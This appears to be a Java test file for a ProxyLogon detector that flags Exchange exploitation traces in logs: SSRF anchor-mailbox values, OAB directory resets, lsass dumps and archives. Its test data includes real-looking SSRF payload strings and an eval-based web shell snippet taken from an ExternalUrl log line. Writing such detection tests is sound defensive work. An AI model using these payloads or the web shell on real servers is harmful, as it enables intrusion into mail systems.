package org.hygiene.lessons.check;

import static org.assertj.core.api.Assertions.assertThat;

import org.hygiene.core.text.Wildcard;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ProxyLogonRulesTest {
    private static final String INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ServerInfo~a]@servernavn.xxx.local:444/mapi/emsmdb/?#",
                "ServerInfo~a]@servernavn.xxx.local:444/ecp/proxyLogon.ecp?#",
                "serverinfo~A]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory#",
            })
    void theSsrfChainIsAHit(String anchorMailbox) {
        assertThat(ProxyLogonRules.isSsrf(anchorMailbox)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ServerInfo~a]@servernavn.xxx.local:444/autodiscover/autodiscover.xml?#",
                "ServerInfo~akak]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#",
                "ServerInfo~localhost/owa/auth/logon.aspx?~3",
                "ServerVersion~Version 15.0 (Build 0.0)",
                "Sid~S-1-5-21-1004336348-1177238915-682003330-1001",
                "ServerInfo~no-slash-here",
                "",
            })
    void autodiscoverOnlyLocalhostAndOrdinaryAnchorsAreNot(String anchorMailbox) {
        assertThat(ProxyLogonRules.isSsrf(anchorMailbox)).isFalse();
    }

    @Test
    void aMissingAnchorIsNoHit() {
        assertThat(ProxyLogonRules.isSsrf(null)).isFalse();
    }

    @Test
    void theResetOfTheOabDirectoryAnsweredOkIsA27065Hit() {
        String reset =
                "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8Beq.&schema=ResetOABVirtualDirectory#";

        assertThat(ProxyLogonRules.isResetVirtualDirectory(reset, 200L)).isTrue();
        assertThat(ProxyLogonRules.isResetVirtualDirectory(reset, 241L)).isFalse();
        assertThat(ProxyLogonRules.isResetVirtualDirectory(reset, 500L)).isFalse();
        assertThat(ProxyLogonRules.isResetVirtualDirectory(reset, null)).isFalse();
        assertThat(ProxyLogonRules.isResetVirtualDirectory(reset.replace("ResetOAB", "OAB"), 200L))
                .isFalse();
    }

    @Test
    void aScriptInTheExternalUrlOfSetOabVirtualDirectoryIsA27065Hit() {
        String line =
                "2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script"
                    + " language=\"\"JScript\"\" runat=\"\"server\"\">function"
                    + " Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''";

        assertThat(ProxyLogonRules.isScriptInVirtualDirectoryUrl(line)).isFalse();
        // Test-ProxyLogon's regex needs "VirtualDirectory" after the script too, as in full log
        // lines.
        assertThat(
                        ProxyLogonRules.isScriptInVirtualDirectoryUrl(
                                line
                                        + ";S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"))
                .isTrue();
    }

    @Test
    void setVirtualDirectoryWithoutAScriptIsNotAHit() {
        String line =
                "S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='OAB"
                    + " (Default Web"
                    + " Site)';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory";

        assertThat(ProxyLogonRules.isScriptInVirtualDirectoryUrl(line)).isFalse();
    }

    @Test
    void aHostileLongLineIsSearchedInLinearTime() {
        String hostile = "Set-" + "VirtualDirectory Url <a>".repeat(200_000);

        assertThat(ProxyLogonRules.isScriptInVirtualDirectoryUrl(hostile)).isFalse();
    }

    @Test
    void oabDownloadsOutsideClientAccessOabAreSuspicious() {
        String bad =
                "Download failed and temporary file"
                        + " 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed.";
        String good =
                "Download failed and temporary file '"
                        + INSTALL
                        + "ClientAccess\\OAB\\Temp\\oab.lzx' needs to be removed.";

        assertThat(ProxyLogonRules.suspiciousOabDownloadPath(bad, INSTALL))
                .contains("'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'");
        assertThat(ProxyLogonRules.suspiciousOabDownloadPath(good, INSTALL)).isEmpty();
        assertThat(
                        ProxyLogonRules.suspiciousOabDownloadPath(
                                good.toLowerCase(java.util.Locale.ROOT), INSTALL))
                .isEmpty();
        assertThat(ProxyLogonRules.suspiciousOabDownloadPath("OAB generation completed", INSTALL))
                .isEmpty();
    }

    @Test
    void unifiedMessagingInvalidCastErrorsAre26857Hits() {
        String msg =
                "An unhandled exception occurred in a UM worker process:"
                        + " System.InvalidCastException: Unable to cast object";

        assertThat(
                        ProxyLogonRules.isUnifiedMessagingDeserialization(
                                "MSExchange Unified Messaging", 2L, msg))
                .isTrue();
        assertThat(
                        ProxyLogonRules.isUnifiedMessagingDeserialization(
                                "MSExchange Unified Messaging", 3L, msg))
                .isFalse();
        assertThat(
                        ProxyLogonRules.isUnifiedMessagingDeserialization(
                                "MSExchange Control Panel", 2L, msg))
                .isFalse();
        assertThat(
                        ProxyLogonRules.isUnifiedMessagingDeserialization(
                                "MSExchange Unified Messaging", 2L, "System.IO.IOException"))
                .isFalse();
    }

    @Test
    void lsassDumpsAreLookedForWhereTheScriptLooks() {
        assertThat(ProxyLogonRules.isLsassDump("C:\\Windows\\Temp\\lsass.dmp")).isTrue();
        assertThat(ProxyLogonRules.isLsassDump("c:\\root\\x\\lsass_20210303.dmp")).isTrue();
        assertThat(ProxyLogonRules.isLsassDump("C:/Windows/Temp/lsass.dmp")).isTrue();
        assertThat(ProxyLogonRules.isLsassDump("C:\\Users\\a\\lsass.dmp")).isFalse();
        assertThat(ProxyLogonRules.isLsassDump("C:\\Windows\\Temp\\memory.dmp")).isFalse();
    }

    @Test
    void archivesAnywhereUnderProgramDataAreSuspicious() {
        assertThat(ProxyLogonRules.isSuspiciousArchive("C:\\ProgramData\\VSPerfMon\\a.7z"))
                .isTrue();
        assertThat(ProxyLogonRules.isSuspiciousArchive("C:\\ProgramData\\x.RAR")).isTrue();
        assertThat(ProxyLogonRules.isSuspiciousArchive("C:\\ProgramData\\x.zip.txt")).isFalse();
        assertThat(ProxyLogonRules.isSuspiciousArchive("D:\\Backups\\x.zip")).isFalse();
    }

    @Test
    void likeMatchesTheWholeValueIgnoringCase() {
        assertThat(Wildcard.like("a*b?d").matches("AxxxBcD")).isTrue();
        assertThat(Wildcard.like("a*b?d").matches("AxxxBcDe")).isFalse();
        assertThat(Wildcard.like("*").matches("")).isTrue();
        assertThat(Wildcard.like("a*a*a*a*b").matches("a".repeat(10_000))).isFalse();
    }
}
